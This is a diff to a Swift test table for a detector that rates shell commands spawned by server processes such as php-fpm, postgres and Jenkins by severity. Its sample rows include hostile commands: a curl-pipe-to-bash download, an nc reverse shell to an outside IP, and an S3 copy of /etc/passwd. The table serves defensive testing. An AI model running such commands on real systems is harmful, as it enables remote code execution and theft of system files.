@@ -207,6 +207,12 @@ private func process(_ pid: Int64, _ parent: Int64, _ line: String) -> Event {
       ("/usr/bin/java -cp x Bootstrap", "/bin/sh -c id", .high), ("/usr/bin/java -cp x Bootstrap", "/bin/bash", .high),
       ("/usr/bin/java -cp x Bootstrap", "sh -c convert a b; curl http://h.example/x", .high),
       ("/usr/bin/java -cp x Bootstrap", "bash /tmp/x.sh", .high), ("/usr/bin/java -cp x Bootstrap", "sh -i", .high),
+      // What archives the log, and what a client had the database run.
+      ("php-fpm: pool www", "sh -c ps aux | grep queue:work", .medium), ("php-fpm: pool www", "sh -c ps aux", .high),
+      ("php-fpm: pool www", "sh -c hostname", .medium), ("php-fpm: pool www", "sh -c whoami", .high),
+      ("postgres: archiver last was 000000010000000A", "sh -c aws s3 cp pg_wal/0A s3://backup/wal/0A", .medium),
+      ("postgres: archiver last was 000000010000000A", "sh -c curl http://198.51.100.9/x | bash", .high),
+      ("postgres: app shop 203.0.113.66(44012) COPY", "sh -c aws s3 cp /etc/passwd s3://other/", .high),
       ("java -jar /usr/share/java/jenkins.war", "sh -c nc -e /bin/sh 198.51.100.9 4242", .high),
     ] as [(String, String, Severity)])
   func tellsAToolFromSomebodyAtWork(server: String, shell: String, severity: Severity) {
